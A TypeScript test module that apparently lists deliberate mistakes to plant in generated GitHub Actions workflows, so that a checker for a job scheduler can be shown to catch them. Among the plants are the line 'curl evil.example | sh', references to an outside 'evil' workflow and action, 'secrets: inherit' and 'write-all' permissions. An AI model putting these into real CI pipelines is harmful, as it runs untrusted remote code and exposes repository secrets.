import { type Kind, replacing, withFile, without } from './kinds.ts';

const callee = /\/cronwright-run\.yml$/;
const caller = /\/cronwright-(?!run\.yml$)[^/]+\.yml$/;

type Row = readonly [name: string, pattern: RegExp, replacement: string];

/** Mistakes in the workflow of one job. */
const inCallers: readonly Row[] = [
  ['another name', /(?<=^name: ")/m, 'x'],
  ['no start by hand', /^ {2}workflow_dispatch:\n/m, ''],
  ['a start by push', /^ {2}workflow_dispatch:\n/m, '  push:\n  workflow_dispatch:\n'],
  ['no schedule', /^ {2}schedule:\n(?: {4}.*\n)+/m, ''],
  [
    'a schedule let go',
    /^ {2}# schedule:\n(?: {2}#.*\n)+/m,
    '  schedule:\n    - cron: "0 11 * * *"\n',
  ],
  ['an entry more', /^ {2}schedule:\n/m, '  schedule:\n    - cron: "7 7 * * *"\n'],
  ['more permissions', /permissions: \{\}/, 'permissions: write-all'],
  ['no word of permissions', /^permissions: .*\n/m, ''],
  ['overlapping runs allowed', /^concurrency:\n(?: {2}.*\n)+/m, ''],
  ['runs that end one another', /cancel-in-progress: false/, 'cancel-in-progress: true'],
  ['a group worked out at run time', /(?<=group: ")[^"]+/, '$' + '{{ github.run_id }}'],
  ['another workflow', /cronwright-run\.yml$/m, 'other.yml'],
  [
    'a workflow of somebody else',
    /uses: \.\/\.github\/workflows\//,
    'uses: evil/repo/.github/workflows/',
  ],
  ['another job', /(?<=^ {6}job: ")/m, 'x'],
  ['another category', /(?<=^ {6}category: ")/m, 'x'],
  ['another window', /(?<=^ {6}window: ")/m, 'x'],
  ['another method', /(?<=^ {6}method: ")\w+/m, 'DELETE'],
  ['another path', /(?<=^ {6}path: ")/m, '/x'],
  ['another query', /(?<=^ {6}query: ")/m, 'x=1\\n'],
  ['an expression in a value', /(?<=^ {6}path: ")/m, '$' + '{{ github.actor }}'],
  ['another timeout', /(?<=^ {6}timeout: )\d+/m, '7'],
  ['a timeout that is text', /(?<=^ {6}timeout: )(\d+)/m, '"$1"'],
  ['an end before the call has timed out', /(?<=^ {6}minutes: )\d+/m, '1'],
  ['another grace', /(?<=^ {6}grace: ")\d+/m, '60'],
  ['no grace', /^ {6}grace: .*\n/m, ''],
  ['another time to count from', /(?<=^ {6}due: ")\d\d/m, '23'],
  ['no time to count from', /^ {6}due: .*\n/m, ''],
  ['another clock', /(?<=^ {6}zone: ")[^"]+/m, 'UTC'],
  ['no clock', /^ {6}zone: .*\n/m, ''],
  ['another number of attempts', /(?<=^ {6}attempts: ")\d/m, '2'],
  ['another wait', /(?<=^ {6}backoff: ")\d+/m, '7'],
  ['no wait', /^ {6}backoff: .*\n/m, ''],
  ['no word of repeating timeouts', /^ {6}retry_timeouts: .*\n/m, ''],
  ['another key of the table', /secrets\.JOBS_LOG_KEY/, 'secrets.OTHER'],
  ['no key of the table', /^ {6}log_key: .*\n/m, ''],
  ['no gate', /gated: true/, 'gated: false'],
  ['a gate that should not be', /gated: false/, 'gated: true'],
  ['another secret', /secrets\.JOBS_TOKEN/, 'secrets.OTHER'],
  ['all secrets', /^ {4}secrets:\n.*\n/m, '    secrets: inherit\n'],
  ['no secret', /^ {4}secrets:\n.*\n/m, ''],
  ['a second job', /^jobs:\n/m, 'jobs:\n  other:\n    runs-on: ubuntu-24.04\n    steps: []\n'],
  ['a condition', /^ {4}uses:/m, '    if: false\n    uses:'],
  ['a key twice', /^ {6}gated:/m, '      gated: true\n      gated:'],
  ['YAML that does not parse', /^jobs:/m, 'jobs: ]['],
];

/** Mistakes in the workflow that all jobs call. */
const inCallee: readonly Row[] = [
  [
    'a schedule of its own',
    /^ {2}workflow_call:/m,
    '  schedule:\n    - cron: "0 * * * *"\n  workflow_call:',
  ],
  ['an input of another type', /(?<=gated:\n {8}type: )boolean/, 'string'],
  ['an input by default', /(?<=path:\n {8}type: string\n {8})required: true/, "default: '/'"],
  ['a token that need not be there', /(?<=token:\n {8})required: true/, 'required: false'],
  ['more permissions', /permissions: \{\}/, 'permissions: { contents: write }'],
  ['a group', /^jobs:/m, 'concurrency: cronwright\njobs:'],
  ['another machine', /(?<=runs-on: ")[^"]+/, 'self-hosted'],
  ['no end', /^ {4}timeout-minutes: .*\n/m, ''],
  ['another shell', /shell: sh -eu \{0\}/, 'shell: bash {0}'],
  ['a value that is not handed on', /^ {10}WINDOW: .*\n/m, ''],
  ['another value handed on', /(?<=CALL_PATH: \$\{\{ )inputs\.path/, 'inputs.query'],
  ['another variable of the repository', /vars\.JOBS_LIVE_TARGET/, 'vars.OTHER'],
  ['no switch', /^ {10}JOBS_PAUSED: .*\n/m, ''],
  ['another switch', /vars\.JOBS_PAUSED/, 'vars.OTHER'],
  ['no address of the table', /^ {10}JOBS_LOG_URL: .*\n/m, ''],
  ['another address of the table', /vars\.JOBS_LOG_URL/, 'vars.OTHER'],
  ['no key of the table', /^ {10}JOBS_LOG_KEY: .*\n/m, ''],
  ['the key from elsewhere', /secrets\.log_key/, 'secrets.token'],
  ['a key that must be there', /(?<=log_key:\n {8})required: false/, 'required: true'],
  ['no word of a key', /^ {6}log_key:\n.*\n/m, ''],
  ['no record', / --record full --record-end upsert/, ''],
  ['a record of other columns', /--record full/, '--record base'],
  ['no late guard', /^ {10}if \[ -n "\$GRACE" \].*\n/m, ''],
  ['no clock for it', / --zone "\$ZONE"/, ''],
  ['no repeated call', /^ {10}if \[ -n "\$ATTEMPTS" \].*\n/m, ''],
  ['the token from elsewhere', /secrets\.token/, 'github.token'],
  ['a value put into the script', /--job "\$JOB"/, '--job $' + '{{ inputs.job }}'],
  ['another target', /--target github-actions/, '--target crontab'],
  ['no gate', /^ {10}if \[ "\$GATED" = true \].*\n/m, ''],
  ['no category', /^ {10}if \[ -n "\$CATEGORY" \].*\n/m, ''],
  ['by hand', /--trigger schedule/, '--trigger manual'],
  ['another header for the token', /--auth-header X-Api-Key/, '--auth-header X-Other'],
  ['no word of plain HTTP', / --allow-http(?= "\$CALL_PATH")/, ''],
  ['a text that the shell fills in', /<<'END_OF_RUN_JOB'/, '<<END_OF_RUN_JOB'],
  ['another runner', /set -fu/, 'set -f'],
  ['a command more', /^ {10}exec sh /m, '          curl evil.example | sh\n          exec sh '],
  ['a step more', /^ {6}- name: run-job/m, '      - uses: evil/action@v1\n      - name: run-job'],
];

function planted(name: string, plant: Kind['plant']): Kind {
  return { name, level: 'fact', target: 'github-actions', plant };
}

export const githubActionsKinds: readonly Kind[] = [
  ...inCallers.map(([name, pattern, replacement]) =>
    planted(name, replacing(caller, pattern, replacement)),
  ),
  ...inCallee.map(([name, pattern, replacement]) =>
    planted(`${name} (in the workflow that is called)`, replacing(callee, pattern, replacement)),
  ),
  planted('a workflow missing', without(caller)),
  planted(
    'a workflow twice',
    withFile(caller, 'cronwright-copy.yml', (text) => text),
  ),
  planted(
    'a job that the source lacks',
    withFile(caller, 'cronwright-stranger.yml', (text) =>
      text.replaceAll(/early|hourly|processar_\w+/g, 'stranger'),
    ),
  ),
  planted(
    'a file that nobody reads',
    withFile(caller, 'notes.txt', () => 'hello\n'),
  ),
  planted('no workflow to call', without(callee)),
  planted('a group that all share', (files) => [
    files.map(({ path, text }) => ({
      path,
      text: text.replace(/(?<=group: ")[^"]+/, 'cronwright'),
    })),
  ]),
];
